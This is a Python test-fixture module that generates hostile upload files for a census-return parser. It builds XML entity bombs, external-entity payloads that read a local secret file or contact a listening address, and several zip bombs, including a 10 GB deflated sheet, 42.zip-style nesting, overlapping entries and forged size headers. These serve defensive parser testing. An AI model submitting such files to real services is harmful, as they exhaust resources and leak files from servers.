"""Files that unfold, nest or reach out, as attackers are known to send them; each in bytes."""

import io
import struct
import zlib
from collections.abc import Mapping
from random import Random

from tests.stories.returns import files

GOOD = files.census_xml([files.child(plans=[("2022-06-01", "2023-02-01", 0)])])
SHEET, WORDS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SMALL = {
    "_rels/.rels": f'<R><Relationship Id="a" Type="{KIND}/officeDocument" '
    'Target="xl/workbook.xml"/></R>',
    "xl/_rels/workbook.xml.rels": f'<R><Relationship Id="b" Type="{KIND}/worksheet" '
    f'Target="worksheets/sheet1.xml"/><Relationship Id="c" Type="{KIND}/sharedStrings" '
    'Target="sharedStrings.xml"/></R>',
    "xl/workbook.xml": f'<workbook xmlns:r="{KIND}"><sheets><sheet name="One" r:id="b"/></sheets>'
    "</workbook>",
    WORDS: "<sst/>",
    SHEET: "<worksheet><sheetData/></worksheet>",
}
MIB = 1 << 20
TEN_GB = 10 << 30


def xml(doctype: str, said: str = "&a;", encoding: str = "utf-8") -> bytes:
    """A census with a document type of its own, and a reference to it where a name stands."""
    text = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{GOOD.replace("C1", said)}'
    return text.encode(encoding)


def laughs(kind: str = "") -> str:
    each = "".join(f"<!ENTITY {kind} b{n} '{f'&b{n - 1};' * 10}'>" for n in range(1, 10))
    return f"<!DOCTYPE m [<!ENTITY {kind} b0 'ha'>{each}]>"


def xml_bombs(listening: str, secret: str) -> Mapping[str, bytes]:
    """`listening`: an address that would hear of it; `secret`: a file that nobody may read out."""
    inside = GOOD.replace("<UPN>", "{}<UPN>")
    attributes = " ".join(f"b{n}=''" for n in range(500_000))
    declared = "<!DOCTYPE m [<!ENTITY a {}>]>"
    return {
        "a billion laughs": xml(laughs(), "&b9;"),
        "quadratic blow-up": xml(declared.format(f"'{'x' * 100_000}'"), "&a;" * 10_000),
        "an entity of itself": xml("<!DOCTYPE m [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>"),
        "parameter entities": xml("<!DOCTYPE m [<!ENTITY % a 'x'><!ENTITY % b '%a;%a;'>%b;]>"),
        "a file of the machine": xml(declared.format(f"SYSTEM 'file://{secret}'")),
        "an address elsewhere": xml(declared.format(f"SYSTEM '{listening}/entity'")),
        "a document type elsewhere": xml(f"<!DOCTYPE m SYSTEM '{listening}/type'>"),
        "a schema elsewhere": xml(f"<!DOCTYPE m [<!ENTITY % a SYSTEM '{listening}/p'>%a;]>"),
        "laughs in other letters": xml(laughs(), "&b9;", "utf-16"),
        "laughs behind a comment": b"<!--" + b"x" * 300_000 + b"-->" + xml(laughs(), "&b9;")[38:],
        "a million nested": inside.format("<a>" * 1_000_000 + "</a>" * 1_000_000).encode(),
        "a text without end": GOOD.replace("A123456789012", "x" * 30_000_000).encode(),
        "an attribute without end": inside.format(f"<a b='{'x' * 30_000_000}'/>").encode(),
        "half a million attributes": inside.format(f"<a {attributes}/>").encode(),
    }


def workbook_bombs() -> Mapping[str, bytes]:
    return {
        "10 GB in a sheet": book(SHEET, zeros(TEN_GB), TEN_GB),
        "10 GB in a sheet that says 4 MB": book(SHEET, zeros(TEN_GB), 4 * MIB),
        "10 GB of shared words": book(WORDS, zeros(TEN_GB), TEN_GB),
        "an archive in archives": nested(5),
        "parts over one another": overlapping(450),
        "a hundred thousand parts": many(100_000),
        "a part with a password": locked(),
        "tags without end": book(SHEET, *stored(tags(9_000_000))),
        "tags without end that look closed": book(SHEET, *stored(tags(3_000_000, b'<a b="/>">'))),
        "laughs in a sheet": book(SHEET, *stored(xml(laughs(), "&b9;"))),
    }


def zeros(size: int) -> bytes:
    """So many bytes of zeros, deflated, without ever being anywhere."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    packing.compress(bytes(MIB)) + packing.flush(zlib.Z_FULL_FLUSH)
    piece = packing.compress(bytes(MIB)) + packing.flush(zlib.Z_FULL_FLUSH)
    return piece * (size // MIB) + packing.flush()


def stored(content: bytes) -> tuple[bytes, int, int]:
    """Deflated, with its size and checksum."""
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packing.compress(content) + packing.flush(), len(content), zlib.crc32(content)


def book(part: str, packed: bytes, says: int, crc: int = 0) -> bytes:
    """A small workbook of which one part is another, whatever that says of its size."""
    parts = [(name, *stored(text.encode())) for name, text in SMALL.items() if name != part]
    return archive([*parts, (part, packed, says, crc)])


def archive(parts: list[tuple[str, bytes, int, int]], over_one_another: bool = False) -> bytes:
    """A zip written by hand: name, deflated bytes, the size and checksum it says."""
    body, places, listed = io.BytesIO(), [], io.BytesIO()
    for number, (name, packed, says, crc) in enumerate(parts):
        if number and over_one_another:
            places.append(places[0])
            continue
        places.append(body.tell())
        body.write(_local(name, packed, says, crc) + packed)
    for (name, packed, says, crc), place in zip(parts, places, strict=True):
        listed.write(_entry(name, packed, says, crc, place))
    start, directory = body.tell(), listed.getvalue()
    count = len(parts)
    end = struct.pack(
        "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(directory), start
    )
    end += struct.pack("<IIQI", 0x07064B50, 0, start + len(directory), 1)
    end += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 2**32 - 1, 2**32 - 1, 0)
    return body.getvalue() + directory + end


def _wide(packed: bytes, says: int) -> bytes:
    return struct.pack("<HHQQ", 1, 16, says, len(packed))


def _local(name: str, packed: bytes, says: int, crc: int) -> bytes:
    more = _wide(packed, says)
    head = (0x04034B50, 45, 0, 8, 0, 0, crc, 2**32 - 1, 2**32 - 1, len(name), len(more))
    return struct.pack("<IHHHHHIIIHH", *head) + name.encode() + more


def _entry(name: str, packed: bytes, says: int, crc: int, place: int) -> bytes:
    more = _wide(packed, says)
    head = (0x02014B50, 45, 45, 0, 8, 0, 0, crc, 2**32 - 1, 2**32 - 1, len(name), len(more))
    return struct.pack("<IHHHHHHIIIHHHHHII", *head, 0, 0, 0, 0, place) + name.encode() + more


def nested(depth: int, each: int = 16) -> bytes:
    """42.zip: archives in archives, and a great file in each of the last."""
    made = archive([("0.dll", zeros(1 << 30), 1 << 30, 0)])
    for level in range(depth):
        inner = stored(made)
        made = archive([(f"lib {level} {number}.zip", *inner) for number in range(each)])
    return made


def overlapping(count: int) -> bytes:
    """Entries that share one body, each small enough and dull enough by itself; 3.6 GB together."""
    rows = ",".join(files.EPISODES).encode() + b"\nC1,01/06/2019,S" * 500_000
    body = stored(rows + b"\n" + Random(1).randbytes(len(rows) // 200))
    return archive([("episodes.csv", *body)] * count, over_one_another=True)


def tags(count: int, each: bytes = b"<a>") -> bytes:
    """With as much noise as keeps them from shrinking too well."""
    noise = Random(1).randbytes(count * len(each) // 180)
    return b"<worksheet><sheetData>" + each * count + noise


def many(count: int) -> bytes:
    body = stored(b"a,b\n")
    return archive([(f"{number}.csv", *body) for number in range(count)])


def locked() -> bytes:
    kept = bytearray(archive([("a.csv", *stored(b"CHILD,DECOM,RNE\n"))]))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        kept[kept.index(mark) + flags] |= 1
    return bytes(kept)
